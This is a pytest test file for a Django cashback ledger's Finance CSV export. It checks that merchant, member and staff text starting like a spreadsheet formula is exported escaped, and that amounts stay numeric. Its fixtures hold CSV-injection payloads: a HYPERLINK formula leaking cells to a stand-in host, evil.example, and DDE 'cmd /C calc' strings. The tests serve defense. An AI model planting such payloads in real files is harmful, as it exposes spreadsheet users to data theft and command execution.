"""The Finance CSV export: what merchants and members typed reaches a spreadsheet as text,
never as a formula, and amounts stay numbers."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone

from cashback.services import (
    cashback_earn,
    cashback_redeem,
    cashback_release_due,
    cashback_reverse,
)
from cashback.services.adjust import cashback_adjust
from members.services import MemberRef
from tests.factories import CardFactory, MemberFactory

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2&C2,"Click")'
# What a spreadsheet would read as a formula, or as the start of one.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def finance(client, django_user_model):
    user = django_user_model.objects.create_user("finance", password="pw", is_staff=True)
    user.groups.add(Group.objects.get(name="Finance"))
    client.force_login(user)
    return client


def export(client, **query) -> list[dict[str, str]]:
    response = client.get(reverse("admin:cashback_ledgerentry_export"), query)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def hostile_ledger(merchant, django_user_model):
    """Every text a merchant, a member or a staff user chose starts like a formula."""
    card = CardFactory.create(app=merchant.app, name="=1+1", cashback_min_amount=0)
    member = MemberFactory.create(
        app=merchant.app,
        email="=cmd@example.com",
        phone="+21620123456",
        name="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    earning = cashback_earn(
        app=merchant.app,
        card=card,
        member_ref=MemberRef(member_id=member.pk),
        purchase_amount=Decimal(100),
        reference=HYPERLINK,
        metadata={"note": "=1+1"},
    ).entry
    redemption = cashback_redeem(
        app=merchant.app,
        card=card,
        member_id=member.pk,
        amount=Decimal("2.5"),
        reference="-2+3+cmd|' /C calc'!A0",
    ).entry
    staff = django_user_model.objects.create_user("+staff", password="pw", is_staff=True)
    adjustment = cashback_adjust(
        wallet=earning.wallet, amount=Decimal(-1), reason="=Clawback", staff_user=staff
    ).entry
    return earning, redemption, adjustment


def test_text_cells_that_look_like_formulas_are_exported_as_text(finance, hostile_ledger):
    earning, redemption, adjustment = hostile_ledger
    rows = {int(row["transaction_id"]): row for row in export(finance)}

    assert rows[earning.pk]["reference"] == "'" + HYPERLINK
    assert rows[earning.pk]["member_email"] == "'=cmd@example.com"
    assert rows[earning.pk]["member_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[earning.pk]["member_phone"] == "'+21620123456"
    assert rows[earning.pk]["card_name"] == "'=1+1"
    assert rows[redemption.pk]["reference"] == "'-2+3+cmd|' /C calc'!A0"
    assert rows[adjustment.pk]["staff_user"] == "'+staff"
    assert "=1+1" in rows[earning.pk]["metadata"]
    assert "=Clawback" in rows[adjustment.pk]["metadata"]
    for row in rows.values():
        for column in (
            "reference",
            "member_email",
            "member_name",
            "member_phone",
            "card_name",
            "staff_user",
            "metadata",
        ):
            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])


def test_amounts_stay_plain_numbers_negative_ones_included(finance, hostile_ledger):
    earning, redemption, adjustment = hostile_ledger
    rows = {int(row["transaction_id"]): row for row in export(finance)}

    assert rows[earning.pk]["amount"] == "5.000"
    assert rows[earning.pk]["purchase_amount"] == "100.000"
    assert rows[redemption.pk]["amount"] == "-2.500"
    assert rows[redemption.pk]["balance_after"] == "2.500"
    assert rows[adjustment.pk]["amount"] == "-1.000"
    assert rows[adjustment.pk]["balance_after"] == "1.500"
    assert rows[adjustment.pk]["purchase_amount"] == ""
    assert sum(Decimal(row["amount"]) for row in rows.values()) == Decimal("1.5")


def test_the_export_carries_the_lifecycle_entries_with_what_they_concern(finance, merchant):
    card = CardFactory.create(app=merchant.app, cashback_holding_days=2, cashback_min_amount=0)
    member = MemberFactory.create(app=merchant.app)
    earning = cashback_earn(
        app=merchant.app,
        card=card,
        member_ref=MemberRef(member_id=member.pk),
        purchase_amount=Decimal(100),
    ).entry
    cashback_release_due(as_of=timezone.now() + timedelta(days=3))
    redemption = cashback_redeem(
        app=merchant.app, card=card, member_id=member.pk, amount=Decimal(1)
    )
    cashback_reverse(app=merchant.app, card=card, transaction_id=redemption.entry.pk)
    rows = {row["type"]: row for row in export(finance)}
    assert rows["earning"]["amount"] == "0.000"
    assert rows["earning"]["pending_amount"] == "5.000"
    assert (rows["release"]["amount"], rows["release"]["pending_amount"]) == ("5.000", "-5.000")
    assert rows["release"]["original_transaction_id"] == str(earning.pk)
    assert rows["reversal"]["original_transaction_id"] == str(redemption.entry.pk)
    assert rows["reversal"]["event"] == "cashback_redemption_reversed"
